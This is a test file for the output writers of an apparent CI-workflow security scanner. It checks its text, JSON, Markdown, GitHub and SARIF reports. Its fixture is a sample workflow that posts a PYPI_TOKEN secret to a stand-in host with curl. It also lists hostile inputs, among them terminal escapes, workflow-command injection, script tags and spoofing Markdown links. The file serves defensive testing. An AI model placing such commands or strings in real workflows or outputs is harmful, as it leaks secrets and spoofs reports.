import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { test } from 'node:test'
import { Ajv2020 } from 'ajv/dist/2020.js'
import { writers } from '../writers.ts'
import { sampleOutcome, samplePath } from './sample-outcome.ts'
import type { Outcome, View } from './writer.ts'

const plain: View = { hasColour: false, hasLinks: false, width: 100, folder: undefined }
const workflow = `on: push
jobs:
  send:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "t=\${{ secrets.PYPI_TOKEN }}" http://collect.example/
`
const marked = 'secrets.PYPI_TOKEN'

const write = async (format: string, outcome: Outcome, view = plain) => [...(await writers[format]!())(outcome, view)].join('')

test('the first word is the verdict, and the text names file, line, secret, host and what to do', async () => {
  const text = await write('text', sampleOutcome(workflow, marked))
  assert.match(text, /^MALICIOUS: /)
  for (const part of [`${samplePath}:6:`, 'PYPI_TOKEN', 'collect.example', 'do now', 'Revoke the secrets first', '^^^^'])
    assert.ok(text.includes(part), part)
})
test('the marks stand below the words that they mean', async () => {
  const lines = (await write('text', sampleOutcome(workflow, marked))).split('\n')
  const at = lines.findIndex((line) => line.includes('^^^^'))
  assert.equal(lines[at]?.indexOf('^'), lines[at - 1]?.indexOf(marked))
  assert.equal(lines[at]?.match(/\^+/)?.[0].length, marked.length)
})
test('a narrow terminal gets no line longer than itself, but for single long words', async () => {
  const outcome = sampleOutcome(`${' '.repeat(300)}${workflow}${'x'.repeat(500)} ${marked}`, marked)
  for (const width of [40, 60, 80]) {
    const long = (await write('text', outcome, { ...plain, width })).split('\n').filter((line) => line.length > width + 2)
    assert.deepEqual(
      long.filter((line) => line.trim().includes(' ') && !line.includes('|')),
      [],
      `${width} columns`,
    )
  }
})
test('colours and links are there only where they are wanted', async () => {
  const outcome = sampleOutcome(workflow, marked)
  assert.doesNotMatch(await write('text', outcome), /\u001b/)
  const shown = await write('text', outcome, { hasColour: true, hasLinks: true, width: 100, folder: '/repo' })
  assert.match(shown, /\u001b\[/)
  assert.match(shown, /\u001b\]8;;file:\/\/\/repo\/\.github/)
})
test('JSON that is written in pieces is what JSON.stringify makes of it', async () => {
  const outcome = sampleOutcome(workflow, marked)
  for (const findings of [[], outcome.findings, [...outcome.findings, ...outcome.findings]]) {
    const written = await write('json', { ...outcome, findings })
    assert.equal(written, `${JSON.stringify(JSON.parse(written), undefined, 2)}\n`)
    assert.equal(JSON.parse(written).findings.length, findings.length)
  }
})
test('an empty result is said in two lines', async () => {
  const outcome = { ...sampleOutcome(workflow, marked), findings: [], verdict: 'clean' as const }
  assert.deepEqual((await write('text', outcome)).trim().split('\n'), ['clean: nothing found', '1 file read in 0.12 s; no findings'])
})

const hostile = [
  ['a terminal sequence', '\u001b[2J\u001b[1;1Hclean: nothing found'],
  ['a link of a terminal', '\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007'],
  ['C1 control characters', '\u009b2J\u0090q\u009c'],
  ['text that turns round', 'safe\u202egnihton'],
  ['tags that nobody sees', 'a\u{e0069}\u{e0067}b'],
  ['a workflow command', '\n::set-output name=x::y\n::stop-commands::z'],
  ['a carriage return', 'safe\r\rclean'],
  ['HTML', '<img src=http://evil.example/x><script>alert(1)</script>'],
  ['a link in Markdown', '[ok](http://evil.example) ![x](http://evil.example/y) @everyone #1'],
  ['a fence', '```\n# Clean\n```'],
  ['a table', '| clean | low |\n| --- | --- |'],
  ['half of a character', 'x\ud800y'],
] as const
for (const [what, text] of hostile) {
  test(`${what} in a message, a path, a secret, a host or a line is inert in every output`, async () => {
    const file = `jobs: { ${text.replaceAll('\n', ' ')} } ${marked}\n`
    const outcome = sampleOutcome(file, marked, { message: text, secrets: [text], hosts: [text], structure: text }, `dir/${text}.yml`)
    const shown = await write('text', { ...outcome, problems: [{ path: text, kind: 'not-yaml', message: text }] })
    assert.doesNotMatch(shown, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e\u{e0000}-\u{e0fff}]/u)
    assert.match(shown, /^MALICIOUS/)
    const github = await write('github', outcome)
    assert.equal(github.trimEnd().split('\n').length, 1)
    assert.match(github, /^::error file=/)
    const markdown = (await write('markdown', outcome)).replaceAll(/```+text\n[\s\S]*?\n```+\n/g, '')
    assert.doesNotMatch(markdown, /<\w|\]\(http|@everyone|!\[|\r/)
    assert.ok(JSON.parse(await write('json', outcome)))
    const sarif = JSON.parse(await write('sarif', outcome))
    assert.match(sarif.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri, /^dir\/[\w.%!~*'()/-]+$/)
  })
}
test('a fence in a quoted line does not end the frame', async () => {
  const markdown = await write('markdown', sampleOutcome(`\`\`\`\`\n${marked} \`\`\`\` # x\n`, marked))
  assert.match(markdown, /^`{5}text$/m)
})

test('JSON is as its published schema says', async () => {
  const schema = JSON.parse(readFileSync(new URL('../../schema/report-1.json', import.meta.url), 'utf8'))
  const validate = new Ajv2020({ allErrors: true }).compile(schema)
  const outcome = { ...sampleOutcome(workflow, marked), deadIgnores: [{ path: 'a.yml', line: undefined, message: 'dead' }] }
  assert.ok(validate(JSON.parse(await write('json', outcome))), JSON.stringify(validate.errors))
  assert.equal(validate({ ...JSON.parse(await write('json', outcome)), verdict: 'fine' }), false)
})

test('SARIF has what 2.1.0 requires, and its indexes point at something', async () => {
  const log = JSON.parse(await write('sarif', sampleOutcome(workflow, marked)))
  assert.equal(log.version, '2.1.0')
  const [run] = log.runs
  assert.equal(run.tool.driver.name, 'holdfast-scan')
  for (const result of run.results) {
    assert.equal(run.tool.driver.rules[result.ruleIndex].id, result.ruleId)
    assert.ok(['error', 'warning', 'note'].includes(result.level))
    assert.ok(result.message.text.length > 0)
    const { region } = result.locations[0].physicalLocation
    assert.deepEqual([region.startLine, region.endLine], [6, 6])
    assert.equal(workflow.split('\n')[5]?.slice(region.startColumn - 1, region.endColumn - 1), marked)
  }
})

test('of twelve findings GitHub is told nine, the worst first, and that there are three more', async () => {
  const outcome = sampleOutcome(workflow, marked)
  const findings = Array.from({ length: 12 }, () => outcome.findings[0]!)
  const lines = (await write('github', { ...outcome, findings })).trimEnd().split('\n')
  assert.equal(lines.length, 10)
  assert.match(lines[9]!, /3 more findings/)
})
